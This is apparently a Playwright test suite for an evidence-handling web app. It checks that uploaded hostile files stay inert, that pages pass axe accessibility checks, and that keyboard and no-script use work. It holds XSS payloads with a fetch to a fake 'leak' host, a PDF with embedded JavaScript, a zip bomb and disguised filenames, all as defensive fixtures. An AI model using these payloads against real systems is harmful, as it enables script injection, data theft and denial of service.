"""Statements, evidence and claims in a real browser: hostile files do nothing, axe finds nothing, all goes without scripts and by keyboard."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pikepdf
import pytest
from axe_playwright_python.sync_playwright import Axe
from PIL import Image
from playwright.sync_api import Browser, Dialog, Page, Request

from tests.desk.running import Running, enter, running, speak
from tests.desk.test_face import AXE

pytestmark = pytest.mark.browser
ATTACK = "alert(1);fetch('http://127.0.0.1:1/leak');parent.document.title='taken';top.location='http://127.0.0.1:1/'"


class Window(NamedTuple):
    """A page, and what went wrong in it."""

    page: Page
    origin: str
    fired: list[str]

    def open(self, path: str) -> None:
        self.page.goto(self.origin + path)


@pytest.fixture(scope="module")
def sages(copy: Path) -> Iterator[Running]:
    with running(copy / "offices" / "sage") as found:
        yield found


@pytest.fixture(scope="module")
def window(browser: Browser, sages: Running) -> Iterator[Window]:
    page = enter(browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True), sages)
    fired: list[str] = []

    def dialog(one: Dialog) -> None:
        fired.append("dialog")
        one.dismiss()

    def asked(one: Request) -> None:
        if not one.url.startswith((sages.origin, "data:", "about:")):
            fired.append(one.url)

    page.context.on("dialog", dialog)
    page.context.on("request", asked)
    speak(page, "en")
    yield Window(page, sages.origin, fired)
    page.context.close()


def picture(tail: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "green").save(out, "PNG")
    return out.getvalue() + tail


def document() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1); app.launchURL('http://127.0.0.1:1/')")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(60_000_000))
    return out.getvalue()


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ATTACK}"><script>{ATTACK}</script></svg>'.encode()
HTML = f"<!doctype html><title>x</title><body onload=\"{ATTACK}\"><script>{ATTACK}</script>".encode()
HOSTILE = {
    "picture.svg": SVG, "page.html": HTML, "page.png": HTML + b" ", "form.pdf": document(), "bomb.zip": bomb(), "polyglot.png": picture(HTML),
    "note.txt": b"note: " + HTML, "rtl\u202egnp.exe": b"MZ\x00\x00", "<img src=x onerror=alert(1)>.png": picture(b"2"),
}  # fmt: skip


def take_in(window: Window, name: str, data: bytes) -> str:
    page = window.page
    window.open("/evidence/new")
    page.locator("[name=file]").set_input_files({"name": name, "mimeType": "image/png", "buffer": data})
    page.locator("[name=label]").fill(f"<script>{ATTACK}</script>")
    page.locator("[name=warnings][value=none]").check()
    page.locator("main form .go").click()
    page.locator("#custody").wait_for()
    return page.url


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_file_does_nothing(window: Window, name: str) -> None:
    page = window.page
    url = take_in(window, name, HOSTILE[name])
    page.wait_for_timeout(300)
    assert page.url == url
    assert page.title().startswith("Piece of evidence")
    assert "alert(1)" in page.locator("main .lead").inner_text(), "the label is text"
    _go_to_the_copy(window, url)
    assert window.fired == []


def _go_to_the_copy(window: Window, url: str) -> None:
    """The address of the bytes, opened as a page of its own: a picture or text, or a file to be saved, and never a page that runs."""
    page = window.page.context.new_page()
    answer = page.request.get(f"{url}/frame", headers={"sec-fetch-site": "same-origin"})
    if answer.status != 409:
        assert answer.headers["content-type"] in ("text/html; charset=utf-8", "text/plain; charset=utf-8", "application/octet-stream")
        assert "sandbox" in answer.headers["content-security-policy"]
        if answer.headers["content-disposition"] == "inline":
            page.goto(f"{url}/frame")
            page.wait_for_timeout(200)
            assert page.evaluate("window.origin") == "null", "an origin of its own, with no way to the desk"
            assert page.evaluate("document.scripts.length") == 0
    page.close()


def test_a_copy_added_by_hand_is_not_shown_as_a_page(window: Window) -> None:
    page = window.page
    url = take_in(window, "a.bin", b"\x00\x01\x02")
    page.locator("summary", has_text="Add a copy made by hand").click()
    page.locator("form[action$='/copies'] [name=file]").set_input_files({"name": "a.html", "mimeType": "text/html", "buffer": HTML})
    page.locator("form[action$='/copies'] [name=how]").fill("typed off")
    page.locator("form[action$='/copies'] .go").click()
    page.locator("text=Save the working copy").wait_for()
    assert page.locator("iframe").count() == 0
    with page.expect_download() as saved:
        page.locator("text=Save the working copy").click()
    assert saved.value.suggested_filename == "copy.bin"
    assert page.url.startswith(url)
    assert window.fired == []


def test_the_original_is_saved_only_where_it_is_asked_for(window: Window) -> None:
    page = window.page
    take_in(window, "b.bin", b"\x00\x01\x03")
    page.locator("summary", has_text="I need the original").click()
    page.locator("[name=sure]").check()
    with page.expect_download() as saved:
        page.locator("form[action$='/original'] button.danger").click()
    assert saved.value.suggested_filename == "original.bin"
    assert Path(saved.value.path()).read_bytes() == b"\x00\x01\x03"
    page.reload()
    assert "original" in page.locator("section[aria-labelledby=readers]").inner_text()


def warned(window: Window) -> str:
    """A statement with something behind a warning."""
    window.open("/statements")
    row = window.page.locator("tbody tr", has=window.page.locator(".mark.warning")).first
    return str(row.locator("a").first.get_attribute("href"))


@pytest.mark.parametrize("lang", ["en", "ru"])
def test_axe_finds_nothing_on_the_pages_of_one_record(window: Window, lang: str) -> None:
    page = window.page
    speak(page, lang)
    statement = warned(window)
    window.open("/evidence")
    evidence = str(page.locator("tbody a[href^='/evidence/']").first.get_attribute("href"))
    window.open("/claims")
    claim = str(page.locator(".claim:has(.waiting) a").first.get_attribute("href"))
    paths = (
        statement, f"{statement}?open=1,2,3", f"{statement}/segments/1?open=1", f"{statement}/consents/new", f"{statement}/acts/new",
        f"{statement}/segments/new", evidence, claim, f"{claim}/responses/new",
    )  # fmt: skip
    for path in paths:
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
            window.open(path)
            for one in page.locator("details:not([open]) > summary").all()[:12]:
                if one.is_visible():
                    one.click()
            found = Axe().run(page, options=AXE)
            assert found.violations_count == 0, (path.rpartition("/")[2], found.generate_report())
        page.set_viewport_size({"width": 360, "height": 740})
        assert page.evaluate("document.documentElement.scrollWidth") <= 360, path.rpartition("/")[2]
        page.set_viewport_size({"width": 1280, "height": 900})
    speak(page, "en")


def test_without_scripts_a_warning_is_opened_by_the_keyboard_and_counted(browser: Browser, copy: Path) -> None:
    with running(copy / "offices" / "sorrel") as desk:
        page = enter(browser.new_context(java_script_enabled=False), desk)
        window = Window(page, desk.origin, [])
        window.open("/statements")
        if page.get_by_role("button", name="Open them again").count():  # what this member's work is over with lies sealed
            page.get_by_role("button", name="Open them again").click()
            page.locator(".notice").wait_for()
        window.open(warned(window))
        shut = page.locator(".shut button").first
        before = page.locator(".segment .said").count()
        shut.focus()
        page.keyboard.press("Enter")
        page.wait_for_url(re.compile(r"open="))
        assert page.locator(".segment .said").count() > before
        assert "you opened 1 passage" in page.locator(".week").first.inner_text()
        page.context.close()


def test_rows_are_walked_by_keyboard(window: Window) -> None:
    page = window.page
    window.open("/statements")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.locator("#may").wait_for()
    assert page.url.partition("/statements/")[2]
    assert page.title().startswith("Statement")
